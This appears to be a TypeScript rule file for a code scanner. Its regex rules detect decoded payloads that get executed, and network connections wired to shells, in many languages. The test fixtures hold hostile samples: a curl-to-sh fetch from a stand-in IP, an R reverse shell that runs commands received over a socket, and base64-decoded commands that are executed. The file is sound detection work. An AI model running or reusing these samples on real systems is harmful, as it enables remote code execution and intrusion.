/** RC-02, RC-05 in compiled and less usual languages: what is decoded and started, and shells joined to connections. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import { firstUrl } from '../../hosts/addresses.ts';
import { isLocal } from '../../hosts/whose-host.ts';
import type { Severity } from '../../../schema/vocabulary.ts';
import { byKind } from './by-kind.ts';

const program = ['script', 'fence', 'config', 'decoded'] as const;
/** Addresses that stay on this machine. */
const here = /["'(]\s?(?:localhost|127\.0\.0\.1|::1)\b/;

const alternatives = (...parts: readonly string[]): string => `(?:${parts.join('|')})`;

/** Text from base64, hexadecimal, single bytes, or read backwards. */
const decodes = alternatives(
  String.raw`base64\.\w{1,12}\.DecodeString\(|hex\.DecodeString\(|getDecoder\(\)\s?\.decode\(|FromBase64String\(`,
  String.raw`Data\(base64Encoded:|Base64\.(?:strict_|urlsafe_)?decode64!?\(|Base64\.decode!?\(|decode_base64\(?`,
  String.raw`base64_decode\(|hex2bin\(|str_rot13\(|strrev\(|base64decode\(|base64enc::base64decode\(|rawToChar\(`,
  String.raw`\.decodeBase64\(\)|base64-decode-string|binary decode (?:base64|hex)|\| decode base64|StrReverse\(`,
  String.raw`string\.char\(tonumber\(|\.unpack1?\(["']m|pack\(["']H\*|general_purpose::\w{1,12}\.decode\(|\|\w{1,4}\| \w{1,4} \^ 0x`,
  String.raw`\breversed\(`,
);
/** A process or a shell is started. */
const starts = alternatives(
  String.raw`exec\.Command\(|Command::new\(|Runtime\.getRuntime\(\)\.exec\(|new ProcessBuilder\(|Process\.Start\(`,
  String.raw`\.arguments\s?=|\bsystem[( ]|shell_exec\(|passthru\(|proc_open\(|popen\(|os\.execute\(|io\.popen\(`,
  String.raw`\brun\(\x60|System\.cmd\(|do shell script|\bShell\s|\(shell-command|\.execute\(\)|\bexec sh\b|\^sh -c|\beval\s`,
  String.raw`Deno\.run\(|Deno\.Command\(|new Function\(|loadstring\(|getoutput\(|\bg\(`,
);

/** Rows of RC-02. */
export const decodedElsewhere: readonly Row[] = [
  row('a program in any language starts a command that it decodes', {
    in: program,
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\b(\w{1,30})(?:\s?:\s?[\w<>]{1,20})?(?:,\s?\w{1,10})?\s?:?=\s?[^\n]{0,80}${decodes}[^\n]{0,4000}\n[\s\S]{0,400}?`,
      ),
      raw(String.raw`${starts}[^\n]{0,160}[\W]\1\b|`),
      raw(String.raw`${starts}[^\n]{0,60}${decodes}\s?["'(]?[\w+/=]{8,4000}`),
    ),
    severity: 'critical',
    weigh: byKind,
    catches: [
      inFile(
        'main.go',
        'line, _ := base64.StdEncoding.DecodeString("ZWNobyAx")',
        'exec.Command("sh", "-c", string(line)).Run()',
      ),
      inFile('a.rb', 'system(Base64.decode64("ZWNobyAxMjM0"))'),
    ],
    spares: [
      inFile(
        'main.go',
        'key, _ := base64.StdEncoding.DecodeString("ZWNobyAx")',
        'exec.Command("git", "status").Run()',
      ),
    ],
  }),
  row('an interpreter reads a decoded file, or a command is spelled in pieces', {
    in: ['script', 'fence', 'config', 'decoded', 'hidden', 'comment'],
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\b(?:python3?|node|perl|ruby|php|bash|sh)\s[^\n]{0,12}(?:<\(|<<<\s?["']?\$\()\s?[^\n]{0,60}\b(?:base64|xxd|openssl|rev|tr|gunzip)\s[^\n]{0,200}|`,
      ),
      raw(
        String.raw`\b(\w{1,20})=(?:\$\(|\()[^\n]{0,80}\b(?:base64\s-{1,2}d\w{0,5}|tr\s["'][a-zA-Z-]{3,12}["']\s["'][n-zN-Za-mA-M-]{3,12}["']`,
      ),
      raw(String.raw`|xxd\s-r)[^\n]{0,120}\)\s{0,3}(?:;|&&|\n)\s{0,4}(?:(?:ba|z)?sh\s-c|eval)\s["']?\$\1\b|`),
      raw(
        String.raw`\{(?:curl|wget)(?:,[^\s{},]{1,160}){1,6}\}\s?(?:\||>)|\bIFS=\S{1,3};?\s?\w{1,20}=\S{0,10}(?:curl|wget)\S{1,160}|`,
      ),
      raw(
        String.raw`\bbase64\s-{1,2}d\w{0,5}\s[^\n]{0,80}>\s?["']?([\w./~$-]{2,80})["']?\s?(?:;|&&)[^\n]{0,80}(?:&&|;)\s?["']?\2\b|`,
      ),
      raw(
        String.raw`\b(?:jq|yq|unzip|cut|awk|sed|grep)\s[^\n]{0,160}(?:implode|comments\.xml|base64 -{1,2}d)[^\n]{0,120}\|\s?(?:ba|z|da)?sh\b`,
      ),
    ),
    severity: 'critical',
    weigh: byKind,
    catches: [
      inFile('scripts/a.sh', 'node <(base64 -d assets/colors.txt)'),
      inFile('scripts/a.sh', '{curl,-s,http://198.51.100.7/a}|sh'),
    ],
    spares: [inFile('scripts/a.sh', 'base64 -d logo.b64 > logo.png && ls -l logo.png')],
  }),
];

/** Critical for a connection to somewhere else. */
function byPeer(hit: RowHit): Severity | null {
  const { text } = hit.region;
  const url = firstUrl(text);
  return here.test(hit.match[0]) || (url !== null && isLocal(url.host)) ? null : byKind(hit);
}

/** Rows of RC-05. */
export const shellsElsewhere: readonly Row[] = [
  row('a connection and a shell are joined, in any language', {
    in: program,
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\bTcpStream::connect\([\s\S]{0,300}?Command::new\(\s?["'](?:\/bin\/)?(?:ba|z)?sh["'][\s\S]{0,160}?(?:from_raw_fd|Stdio::from)|`,
      ),
      raw(
        String.raw`\bProcessBuilder\(\s?["'](?:\/bin\/(?:ba)?sh|cmd(?:\.exe)?)["'][\s\S]{0,300}?new Socket\([\s\S]{0,400}?get(?:Input|Output)Stream\(|`,
      ),
      raw(
        String.raw`\bconnect\(\s?\w{1,20}\s?,[^;\n]{0,80};\s{0,4}dup2\([\s\S]{0,160}?\bexecl?[vpe]{0,2}\(\s?["']\/bin\/(?:ba)?sh|`,
      ),
      raw(
        String.raw`\bIO::Socket::INET->new\([\s\S]{0,300}?while\s?\(\s?<\$\w{1,20}>\s?\)[^\n]{0,40}(?:\x60\$_\x60|qx|system)|`,
      ),
      raw(
        String.raw`\bsocketConnection\([\s\S]{0,300}?(\w{1,20})\s?(?:<-|=)\s?readLines\([\s\S]{0,120}?\bsystem\(\s?\1\b|`,
      ),
      raw(
        String.raw`\b(\w{1,20})\s?=\s?connect\(\s?["'][^\n]{4,60}[\s\S]{0,200}?\x60sh -c \$\(readline\(\2\)`,
      ),
      raw(
        String.raw`|:gen_tcp\.connect\([\s\S]{0,300}?:gen_tcp\.recv\([\s\S]{0,160}?System\.(?:cmd|shell)\(`,
      ),
    ),
    severity: 'critical',
    weigh: byPeer,
    catches: [
      inFile(
        'a.R',
        'con <- socketConnection("198.51.100.7", 4431)',
        'line <- readLines(con, 1)',
        'writeLines(system(line, intern = TRUE), con)',
      ),
    ],
    spares: [inFile('a.R', 'con <- socketConnection("localhost", 4431)', 'rows <- readLines(con)')],
  }),
];
